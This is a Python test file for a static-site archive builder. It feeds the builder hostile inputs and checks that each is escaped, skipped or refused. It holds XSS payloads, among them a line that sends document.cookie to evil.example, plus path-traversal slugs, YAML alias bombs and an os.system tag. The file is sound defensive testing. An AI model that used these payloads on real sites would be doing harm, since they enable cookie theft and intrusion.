"""The hostile-input corpus: one test per case, each asserting the specific outcome.

Every case starts from a small valid archive (tests/hostile/support.py), adds or replaces the
case's files, builds, and expects exactly one of:
- render: the build succeeds and the case's page exists (with the given visible text);
- skip:   the build succeeds, and the case's file is skipped with a message that names it and
          says what is wrong;
- fail:   the build stops with an error that names the file and the problem, and the site
          of the previous build is byte-for-byte unchanged.
After every build that succeeds, no page holds executable HTML (support.unsafe_html), and no
file was written outside the output folder.
"""
from __future__ import annotations

import json
import re
import shutil
import xml.etree.ElementTree as ET
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

from archive.build import build
from archive.config import load_config
from archive.errors import ArchiveError
from hostile.support import BASE_CONFIG, HOSTILE, TextOf, make_archive, snapshot, unsafe_html


@dataclass
class Case:
    id: str
    files: dict  # destination (relative to the archive) -> file in tests/hostile, bytes, or callable(root, outside)
    expect: str  # "render" | "skip" | "fail"
    match: str = ""  # skip/fail: regex the message must match
    target: str = ""  # skip: the file (relative to the content folder) that must be skipped; fail: name in the message
    page: str | None = None  # render: regex of the page the article must produce
    text: tuple = ()  # render: strings that must appear in that page's visible text
    absent: tuple = ()  # strings that must appear in no page's raw HTML
    survives: tuple = ()  # fail: files (relative to the archive) that must still exist
    extra: Callable | None = None  # further checks on the built site
    max_seconds: float = 60.0


def art(src: str, expect: str, match: str = "", **kw) -> Case:
    """A case made of one article file from tests/hostile/."""
    return Case(id=src.rsplit(".", 1)[0], files={f"articles/{src}": src}, expect=expect, match=match,
                target=src, **kw)


def reg(src: str, match: str) -> Case:
    """A registry that must be refused as a whole."""
    return Case(id=src.rsplit(".", 1)[0], files={"articles/entities.yml": src}, expect="fail",
                match=match, target="entities.yml")


def config(id_: str, text: str, match: str, extra_files: dict | None = None, **kw) -> Case:
    return Case(id=id_, files={"archive.yml": text.encode(), **(extra_files or {})}, expect="fail",
                match=match, target="", **kw)


def _write_huge(root: Path, outside: Path) -> None:
    # 50 MB, written in the test and never committed
    with (root / "articles" / "huge.md").open("wb") as fh:
        line = b"Esmail Qaani said \xe2\x80\x9cwe stay\xe2\x80\x9d in Baghdad on Tuesday. " * 16 + b"\n\n"
        for _ in range(50 * 1024 * 1024 // len(line) + 1):
            fh.write(line)


def _write_long_line(root: Path, outside: Path) -> None:
    unit = "Esmail Qaani met Mustafa Kadhimi in Baghdad, and “we will stay,” Qaani said; "
    (root / "articles" / "long_line.md").write_text(unit * (150_000 // len(unit)), encoding="utf-8")


def _write_long_word(root: Path, outside: Path) -> None:
    # no whitespace at all: spaCy's tokenizer is quadratic in the length of such a run
    (root / "articles" / "long_word.md").write_text("“\"«»„" * 12_000, encoding="utf-8")


def _link_file(root: Path, outside: Path) -> None:
    (root / "articles" / "leak.md").symlink_to(outside / "secret.md")


def _link_dir(root: Path, outside: Path) -> None:
    (root / "articles" / "leakdir").symlink_to(outside, target_is_directory=True)


def _article_index_is_the_list(site: Path) -> None:
    # the reserved slug did not overwrite the page that lists every article
    page = TextOf(site / "articles" / "index.html")
    hrefs = [a.get("href") for t, a in page.elements if t == "a"]
    assert "base.html" in hrefs and "index-page.html" in hrefs


def _has_link(page: str, href: str) -> Callable:
    def check(site: Path) -> None:
        assert href in [a.get("href") for t, a in TextOf(site / page).elements if t == "a"]
    return check


ARTICLE_URL = r"front matter 'url' must be an http:// or https:// address"

CASES = [
    # --- script, event handlers and javascript: links in bodies, titles, fields, registry ---
    art("xss_body_script.md", "render", page=r"articles/xss-body-script\.html",
        text=("<script>alert(1)</script>", 'document.location = "https://evil.example/?c=" + document.cookie'),
        absent=("<script>alert(1)", "<script>\ndocument", "<style>body")),
    art("xss_body_onerror.md", "render", page=r"articles/xss-body-onerror\.html",
        text=('<img src="x" onerror="alert(1)">', '<iframe src="javascript:alert(4)"></iframe>')),
    art("xss_md_link_javascript.md", "render", page=r"articles/xss-md-link-javascript\.html",
        text=("[plain](javascript:alert(1))",),
        extra=_has_link("articles/xss-md-link-javascript.html", "https://example.org/ok")),
    art("xss_md_image.md", "render", page=r"articles/xss-md-image\.html"),
    art("xss_reference_link.md", "render", page=r"articles/xss-reference-link\.html"),
    art("xss_title.md", "render", page=r"articles/xss-title\.html", text=("<script>alert('title')</script>",)),
    art("xss_title_breakout.md", "render", page=r"articles/xss-title-breakout\.html",
        text=('"><img src=x onerror=alert(1)><a href="javascript:alert(2)">',)),
    art("xss_front_matter_fields.md", "render", page=r"articles/xss-front-matter-fields\.html",
        text=("<script>alert('author')</script>", '<img src=x onerror="alert(1)">')),
    art("xss_url_javascript.md", "skip", ARTICLE_URL),
    art("xss_url_data.md", "skip", ARTICLE_URL),
    art("xss_url_protocol_relative.md", "skip", ARTICLE_URL),
    art("xss_plain.txt", "render", page=r"articles/xss-plain\.html",
        text=("<script>alert(1)</script>", "<script>alert('trailer')</script>")),
    art("xss_quote.md", "render", page=r"articles/xss-quote\.html", text=("<script>alert(1)</script> we will not leave",)),
    Case("xss_registry", {"articles/entities.yml": "xss_registry.yml"}, "render", page=r"actors/evil-actor\.html",
         text=("<script>alert('description')</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(3)>")),
    Case("registry_control_chars", {"articles/entities.yml": "registry_control_chars.yml"}, "render",
         page=r"actors/esmail-qaani\.html", text=("Esmail Qaani", "A bell, an escape and a noncharacter in the description.",
                                                   "commander of the Quds Force")),
    reg("xss_registry_url.yml", r"'url' must be an http:// or https:// address"),
    Case("xss_file_name", {'articles/"><img src=x onerror=alert(1)>.md': b"A file name that is markup.\n"}, "render",
         page=r"articles/img-src-x-onerror-alert-1\.html"),
    # --- slugs, ids and paths: nothing is written outside the output folder ---
    art("slug_dotdot.md", "render", page=r"articles/outside\.html"),
    art("slug_absolute.md", "render", page=r"articles/etc-passwd\.html"),
    art("id_dotdot.md", "render", page=r"articles/index-page\.html", extra=_article_index_is_the_list),
    art("slug_nul.md", "render", page=r"articles/evilname\.html"),
    art("slug_reserved_con.md", "render", page=r"articles/con-page\.html"),
    art("slug_reserved_index.md", "render", page=r"articles/index-page\.html", extra=_article_index_is_the_list),
    art("slug_windows_path.md", "render", page=r"articles/c-windows-system32-drivers\.html"),
    art("slug_symbols_only.md", "render", page=r"articles/u-[0-9a-f]{10}\.html"),
    art("slug_arabic.md", "render", page=r"articles/u-[0-9a-f]{10}\.html"),
    art("slug_very_long.md", "render", page=r"articles/a(-a){39}\.html"),
    # --- YAML: bombs, nesting, impossible values, tags ---
    art("fm_billion_laughs.md", "skip", r"front matter refused: it expands to more than [\d,]+ values \(an alias bomb\?\)", max_seconds=15),
    art("fm_deep_nesting.md", "skip", r"front matter refused: it is nested more than \d+ levels deep", max_seconds=15),
    art("fm_bad_date.md", "skip", r"front matter refused: a value cannot be read: month must be in 1\.\.12"),
    art("fm_huge_int.md", "skip", r"front matter refused: a value cannot be read: .*4300 digits"),
    art("fm_python_tag.md", "skip", r"broken front matter.*python/object/apply:os\.system"),
    art("fm_not_mapping.md", "skip", r"front matter must be a mapping"),
    art("fm_noncharacter.md", "render", page=r"articles/fm-noncharacter\.html", text=("Noncharacter title", "a noncharacter in it")),
    art("fm_unclosed.md", "render", page=r"articles/fm-unclosed\.html", text=("title: Never closed",)),
    art("fm_tags_nested.md", "skip", r"front matter 'tags' must be a list of words"),
    art("fm_broken_yaml.md", "skip", r"broken front matter at line \d+"),
    reg("registry_billion_laughs.yml", r"refused: it expands to more than [\d,]+ values \(an alias bomb\?\)"),
    reg("registry_deep_nesting.yml", r"refused: it is nested more than \d+ levels deep"),
    reg("registry_bad_date.yml", r"a value cannot be read: day is out of range for month"),
    reg("registry_alias_a.yml", r"id 'everything': alias 'a' is too short to match safely"),
    reg("registry_alias_the.yml", r"alias 'the' is only common words(.|\n)*alias 'Of The' is only common words(.|\n)*alias 'he' is only"),
    reg("registry_alias_punct.yml", r"alias '\.\.\.' has no letters or digits"),
    reg("registry_reserved_id.yml", r"id 'index' is reserved"),
    reg("registry_duplicate_id.yml", r"duplicate id 'twin'"),
    reg("registry_cp1252.yml", r"not UTF-8 text"),
    config("config_billion_laughs", (HOSTILE / "config_billion_laughs.yml").read_text(encoding="utf-8"),
           r"archive\.yml(.|\n)*an alias bomb", max_seconds=15),
    # --- output folders whose replacement would destroy something ---
    config("output_is_archive", BASE_CONFIG.replace("output: build", "output: ."), r"would delete the archive",
           survives=("articles/base.md", "archive.yml")),
    config("output_contains_content", BASE_CONFIG.replace("output: build", "output: articles"),
           r"contains the content", survives=("articles/base.md",)),
    config("output_foreign_folder", BASE_CONFIG.replace("output: build", "output: site"), r"not empty and was not built by archive",
           extra_files={"site/precious.txt": b"not a site"}, survives=("site/precious.txt",)),
    # --- encodings, binary and empty files ---
    art("enc_cp1252.md", "skip", r"not UTF-8 text \(byte 0xe9 at line 2, column 11\); it may be Windows-1252 or Latin-1"),
    art("enc_latin1.txt", "skip", r"not UTF-8 text \(byte 0xe9 at line 1, column 7\)"),
    art("enc_utf16_bom.md", "render", page=r"articles/enc-utf16-bom\.html", text=("Café “Riyadh” talks", "“productive”")),
    art("enc_utf16_nobom.md", "skip", r"looks like UTF-16 without a byte-order mark"),
    art("enc_utf16_odd.md", "skip", r"starts with a UTF-16 byte-order mark but is not valid UTF-16"),
    art("enc_utf8_bom.md", "render", page=r"articles/enc-utf8-bom\.html", text=("Café “Riyadh” talks",)),
    art("enc_control_chars.md", "render", page=r"articles/enc-control-chars\.html",
        text=("Bell and escape in the title", "a bell , an escape [31m and a form feed in it."), absent=("\x07", "\x1b", "\x0c")),
    art("enc_nul_late.md", "render", page=r"articles/enc-nul-late\.html", text=("Placeholder ROOT injected and a NUL here.",)),
    art("bin_png.md", "skip", r"this is a binary file, not an article"),
    art("bin_high_bytes.md", "skip", r"not UTF-8 text \(byte 0x80 at line 1, column 1\)"),
    art("empty.md", "skip", r"the file is empty"),
    art("whitespace_only.txt", "skip", r"the file is empty"),
    art("front_matter_only.md", "skip", r"the article has no text"),
    # --- size: refused by the limit, or processed in bounded time ---
    Case("huge_50mb", {"articles/huge.md": _write_huge}, "skip",
         r"is 52,4\d\d,\d\d\d bytes, over the limit of 200,000 \(max_article_size in archive\.yml\)", target="huge.md", max_seconds=20),
    Case("long_line", {"articles/long_line.md": _write_long_line}, "render", page=r"articles/long-line\.html", max_seconds=60),
    Case("long_word", {"articles/long_word.md": _write_long_word}, "render", page=r"articles/long-word\.html", max_seconds=60),
    # --- quotation marks ---
    art("quotes_unbalanced.md", "render", page=r"articles/quotes-unbalanced\.html", text=("Qaani said “this quote never closes.",)),
    art("quotes_mixed.txt", "render", page=r"articles/quotes-mixed\.html", text=("«Nous restons», a dit le ministre.",)),
    # --- duplicates ---
    Case("duplicate_slug", {"articles/dup_a.md": "dup_a.md", "articles/dup_b.md": "dup_b.md"}, "skip",
         r"id 'same-slug' is already used by dup_a\.md", target="dup_b.md"),
    Case("duplicate_id", {"articles/dup_id_a.md": "dup_id_a.md", "articles/dup_id_b.md": "dup_id_b.md"}, "skip",
         r"id 'same-id' is already used by dup_id_a\.md", target="dup_id_b.md"),
    # --- symlinks out of the archive ---
    Case("symlink_file_outside", {"articles/leak.md": _link_file}, "skip",
         r"links to a file outside the content folder; not published", target="leak.md", absent=("TOP-SECRET-CONTENT",)),
    Case("symlink_dir_outside", {"articles/leakdir": _link_dir}, "render", page=r"articles/base\.html",
         absent=("TOP-SECRET-CONTENT", "SECRET-OUTSIDE-FILE")),
]


def _apply(case: Case, root: Path, outside: Path) -> None:
    for dest, source in case.files.items():
        path = root / dest
        path.parent.mkdir(parents=True, exist_ok=True)
        if callable(source):
            source(root, outside)
        elif isinstance(source, bytes):
            path.write_bytes(source)
        else:
            shutil.copyfile(HOSTILE / source, path)


def _leftovers(root: Path) -> list[str]:
    return sorted(p.name for p in root.iterdir() if re.match(r"\.build-(tmp|old)-", p.name))


def test_lone_surrogates_from_yaml_escapes_are_removed():
    """Pure-Python PyYAML turns "\\ud800" into a lone surrogate (libyaml refuses it), which
    cannot be written as UTF-8: it used to stop the whole build when it reached a title."""
    from archive.reader import _field
    from archive.registry import _text_list

    assert _field({"title": "Lone\ud800 surrogate\udfff"}, "title", "x.md") == "Lone surrogate"
    assert _text_list(["Qaani\ud800"], "x", "aliases", []) == ["Qaani"]


def test_the_corpus_is_big_enough():
    assert len(CASES) >= 40
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input(case: Case, tmp_path: Path):
    root = make_archive(tmp_path / "archive")
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.copyfile(HOSTILE / "outside_secret.md", outside / "secret.md")
    site = root / "build"
    if case.expect == "fail":
        build(load_config(root))
        before = snapshot(site)
    _apply(case, root, outside)
    inputs = {k: v for k, v in snapshot(tmp_path).items() if not k.startswith(("archive/build", "archive/.archive-cache"))}
    inputs.pop("archive/.archive.lock", None)

    started = time.monotonic()
    if case.expect == "fail":
        with pytest.raises(ArchiveError) as info:
            build(load_config(root))
        message = str(info.value.format_message())
        assert case.target in message
        assert re.search(case.match, message), message
        assert snapshot(site) == before, "a failed build changed the previous site"
        for rel in case.survives:
            assert (root / rel).exists(), f"{rel} was lost"
    else:
        report = build(load_config(root))
        skipped = {e.path: e.reason for e in report.skipped}
        files = [p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file()]
        if case.expect == "skip":
            assert case.target in skipped, f"not skipped: {case.target}; skipped: {skipped}"
            assert re.search(case.match, skipped[case.target]), skipped[case.target]
        else:
            assert not skipped, skipped
            pages = [f for f in files if re.fullmatch(case.page, f)]
            assert pages, f"no page matches {case.page}"
            visible = TextOf(site / pages[0]).text
            for t in case.text:
                assert t in visible, t
        assert "articles/base.html" in files  # the rest of the archive was built as usual
        assert unsafe_html(site) == []
        for feed in site.rglob("*.xml"):
            ET.parse(feed)  # feeds and the sitemap stay well-formed XML
        for data in site.rglob("*.json"):
            json.loads(data.read_text(encoding="utf-8"))
        html = "".join(p.read_text(encoding="utf-8") for p in site.rglob("*.html"))
        for s in case.absent:
            assert s not in html, s
        if case.extra:
            case.extra(site)
    assert time.monotonic() - started < case.max_seconds
    # Nothing was written anywhere but the output folder, the annotation cache and the lock file.
    after = {k: v for k, v in snapshot(tmp_path).items()
             if not k.startswith(("archive/build", "archive/.archive-cache"))}  # the cache is ours too
    after.pop("archive/.archive.lock", None)
    assert after == inputs
    assert _leftovers(root) == []

